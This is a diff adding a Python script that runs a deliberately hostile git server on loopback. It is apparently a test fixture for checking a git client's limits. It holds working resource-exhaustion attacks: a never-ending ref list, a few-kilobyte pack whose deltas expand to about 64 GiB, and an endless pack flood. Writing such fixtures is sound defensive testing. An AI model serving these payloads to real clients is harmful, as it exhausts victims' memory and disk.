@@ -1,0 +1,99 @@
+#!/usr/bin/python3
+"""hostile-git.py PORT - a git server on loopback that is up to no good; the path says how: /refs never ends its list of
+branches, /expand sends a pack of some kilobytes that stands for 64 GiB, /flood one that never ends, /honest-list just lists."""
+import hashlib, re, socket, struct, sys, threading, zlib
+
+OID = b"1234567890123456789012345678901234567890"
+
+
+def pkt(data):
+    return b"%04x" % (len(data) + 4) + data
+
+
+def entry(kind, size, body):
+    head = kind << 4 | size & 15
+    size >>= 4
+    out = b""
+    while size:
+        out += bytes([head | 128])
+        head, size = size & 127, size >> 7
+    return out + bytes([head]) + body
+
+
+def varint(n):
+    out = b""
+    while n > 127:
+        out += bytes([n & 127 | 128])
+        n >>= 7
+    return out + bytes([n])
+
+
+def blob_id(size):
+    h = hashlib.sha1(b"blob %d\0" % size)
+    for _ in range(size >> 20):
+        h.update(bytes(1 << 20))
+    return h.digest()
+
+
+def delta(source, target):
+    step = min(source, 0xFFFFFF)
+    ops = b"\xf0" + struct.pack("<I", step)[:3]
+    n = target // step
+    return varint(source) + varint(n * step) + ops * n
+
+
+def expanding():
+    sizes = [1 << 20, 1 << 28, 1 << 36]
+    pack = b"PACK" + struct.pack(">II", 2, 3) + entry(3, sizes[0], zlib.compress(bytes(sizes[0])))
+    for a, b in zip(sizes, sizes[1:]):
+        d = delta(a, b)
+        pack += entry(7, len(d), blob_id(a) + zlib.compress(d))
+    return pack + hashlib.sha1(pack).digest()
+
+
+def flood(c):
+    c.sendall(b"PACK" + struct.pack(">II", 2, 1000000))
+    noise = hashlib.sha256(b"x").digest() * 32768
+    z = zlib.compressobj(0)
+    c.sendall(entry(3, 1 << 40, b""))
+    while True:
+        c.sendall(z.compress(noise))
+
+
+def serve(c):
+    try:
+        talk(c)
+    except (OSError, ValueError):
+        pass
+    finally:
+        c.close()
+
+
+def talk(c):
+    n = int(c.recv(4, socket.MSG_WAITALL), 16) - 4
+    path = re.match(rb"git-upload-pack (\S*?)\0", c.recv(n, socket.MSG_WAITALL)).group(1).decode()
+    c.sendall(pkt(OID + b" HEAD\0ofs-delta agent=x\n") + pkt(OID + b" refs/heads/main\n"))
+    i = 0
+    while path == "/refs":
+        c.sendall(b"".join(pkt(OID + b" refs/heads/%s%09d\n" % (b"x" * 200, i + k)) for k in range(1000)))
+        i += 1000
+    c.sendall(b"0000")
+    said = b""
+    while b"done\n" not in said:
+        data = c.recv(65536)
+        if not data:
+            return
+        said += data
+    c.sendall(pkt(b"NAK\n"))
+    if path == "/expand":
+        c.sendall(expanding())
+    if path == "/flood":
+        flood(c)
+
+
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1])))
+s.listen(8)
+while True:
+    threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
